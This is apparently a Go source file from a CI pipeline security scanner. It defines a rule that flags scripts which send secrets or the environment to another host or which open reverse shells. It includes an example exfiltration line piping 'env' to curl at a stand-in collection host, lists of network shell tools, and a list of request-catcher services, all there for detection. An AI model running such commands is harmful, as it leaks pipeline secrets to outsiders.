package script

import (
	"fmt"
	"net/netip"
	"strings"

	"github.com/penstock-dev/penstock/scan"
	"github.com/penstock-dev/penstock/scan/pipeline/audit"
	"github.com/penstock-dev/penstock/scan/pipeline/ci"
	"github.com/penstock-dev/penstock/scan/pipeline/shell"
)

func exfiltration() *audit.Rule {
	return &audit.Rule{
		Meta: scan.Rule{
			ID:          "script/exfiltration-pattern",
			Name:        "Script that sends secrets out or opens a shell",
			Class:       "exfiltration-pattern",
			Severity:    scan.SeverityHigh,
			Confidence:  scan.ConfidenceHigh,
			Description: "What the script does is what malware in pipelines does: it sends the environment or a secret to a host of somebody's choice, or hands that host a shell on the runner.",
			Remediation: "Find out who put it in and what it has sent, and renew every secret of the pipeline.",
			Example:     "- run: env | curl --data-binary @- https://collect.example.net",
			Fixed:       "- run: make test",
			Tags: []string{
				"checkov:CKV_GHA_3", "checkov:CKV_GHA_4", "checkov:CKV_GITLABCI_1", "checkov:CKV_CIRCLECIPIPELINES_5", "checkov:CKV_CIRCLECIPIPELINES_7",
				"codeql:SecretExfiltration", "sisakulint:secret-exfiltration",
			},
		},
		Job: func(r *audit.Run, job *ci.Job) {
			eachSecrets(r, job, func(step *ci.Step, known *secrets) {
				for _, at := range reverseShells(known.script) {
					r.Find(job, step, within(r, step, at), "run", "a shell is handed to another host")
				}
				eachBare(r, step, func(cmd *shell.Command) {
					if !sends(cmd) {
						return
					}
					if what, change := known.sent(cmd); what != "" {
						r.Find(job, step, within(r, step, cmd.Range), "run", what, change, known.flow())
					}
				})
			})
		},
	}
}

// sends reports whether a command can send data to another host.
func sends(cmd *shell.Command) bool {
	for _, o := range cmd.Outputs {
		if hasPrefix(o.Text, "/dev/tcp/", "/dev/udp/") {
			return true
		}
	}
	return fetches(cmd.Name()) || talks(cmd.Name()) || resolves(cmd.Name())
}

// talks reports whether a program opens a plain connection.
func talks(name string) bool { return containsWord("nc ncat netcat telnet socat", name) }

// resolves reports whether a program asks for the address of a name.
func resolves(name string) bool {
	return containsWord("dig nslookup host drill resolve-dnsname", name)
}

// sent says what a command that can send data sends that it should not.
func (s *secrets) sent(cmd *shell.Command) (string, func(*ci.Weakness)) {
	name := cmd.Name()
	certain := rated(scan.SeverityHigh, scan.ConfidenceHigh)
	likely := rated(scan.SeverityHigh, scan.ConfidenceMedium)
	text := strings.ToLower(s.script.Text[cmd.Start:cmd.End])
	secretBefore := upstream(s.script, cmd, s.any)
	switch {
	case s.sendsEnvironment(cmd):
		return fmt.Sprintf("%s sends the whole environment to another host", name), certain
	case allSecrets(text), s.all && (strings.Contains(text, "@") || strings.Contains(text, "--upload-file")):
		return fmt.Sprintf("%s sends all secrets to another host", name), certain
	case resolves(name) && s.any(cmd):
		return fmt.Sprintf("%s carries a secret in a host name that it asks for", name), certain
	case !fetches(name) && !resolves(name) && (s.any(cmd) || secretBefore):
		return fmt.Sprintf("%s sends a secret over a plain connection", name), likely
	case fetches(name) && catcher(text):
		return fmt.Sprintf("%s sends to a host that collects requests for anybody", name), likely
	case talks(name) && name != "socat" && plainPeer(cmd):
		return fmt.Sprintf("%s opens a connection to a bare address", name), rated(scan.SeverityMedium, scan.ConfidenceLow)
	case fetches(name) && (s.bodyHas(cmd, s.word) || secretBefore):
		return s.sentInBody(cmd)
	}
	return "", nil
}

// sentInBody judges a secret in the body of a request: a token of the CI system
// has no business at a foreign host, while one's own secret may be for that
// host.
func (s *secrets) sentInBody(cmd *shell.Command) (string, func(*ci.Weakness)) {
	foreign := false
	for _, a := range addresses(cmd) {
		host := strings.ToLower(a.Text)
		foreign = foreign || !localURL(a.Text) && a.Static && !strings.Contains(host, "gitlab") && !strings.Contains(host, "github")
	}
	token := func(w shell.Word) bool {
		for _, v := range w.Vars {
			if platformToken(v) {
				return true
			}
		}
		return false
	}
	if foreign && s.bodyHas(cmd, token) {
		return fmt.Sprintf("%s sends a token of the CI system to another host", cmd.Name()), rated(scan.SeverityHigh, scan.ConfidenceMedium)
	}
	return fmt.Sprintf("%s sends a secret in the body of a request", cmd.Name()), pedantic(scan.SeverityLow, scan.ConfidenceLow)
}

// sendsEnvironment reports whether the whole environment is what a command
// sends.
func (s *secrets) sendsEnvironment(cmd *shell.Command) bool {
	if upstream(s.script, cmd, dumpsEnvironment) {
		return true
	}
	for _, w := range cmd.Args() {
		if !w.Static && strings.ContainsAny(w.Text, "(`") && inside(s.script, w.Range, dumpsEnvironment) {
			return true
		}
	}
	return false
}

// allSecrets reports whether a text expands to all secrets at once.
func allSecrets(text string) bool {
	return strings.Contains(text, "${{") && strings.Contains(strings.ReplaceAll(strings.ToLower(text), " ", ""), "tojson(secrets)")
}

// bodyHas reports whether the body of a request has a word that is wanted.
func (s *secrets) bodyHas(cmd *shell.Command, want func(shell.Word) bool) bool {
	args := cmd.Args()
	for i, a := range args {
		name, _, joined := strings.Cut(a.Text, "=")
		switch name {
		case "-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "--data-ascii", "-F", "--form", "--form-string", "--json", "--post-data", "--body-data", "-Body", "-body":
		default:
			continue
		}
		if joined && want(a) || !joined && i+1 < len(args) && want(args[i+1]) {
			return true
		}
	}
	return false
}

// catcher reports whether a text names one of the services that take any
// request and show it to whoever made the address.
func catcher(text string) bool {
	for _, host := range []string{
		"webhook.site", "requestbin.", ".pipedream.net", "burpcollaborator.net", ".oastify.com", "interact.sh", ".oast.", "dnslog.cn", ".ceye.io",
		"hookbin.com", "requestcatcher.com", "beeceptor.com", "requestrepo.com", "canarytokens.com", ".ngrok.io", ".ngrok-free.app", ".ngrok.app",
	} {
		if strings.Contains(text, host) {
			return true
		}
	}
	return false
}

// plainPeer reports whether an argument is a literal address of another host,
// and the command does not just try a port.
func plainPeer(cmd *shell.Command) bool {
	if _, ok := hasOption(cmd, 'z', "wpsiXxgGoOPqTIMmn", "--zero"); ok {
		return false
	}
	for _, a := range cmd.Args() {
		if addr, err := netip.ParseAddr(a.Text); err == nil && !addr.IsLoopback() && !addr.IsUnspecified() {
			return true
		}
	}
	return false
}
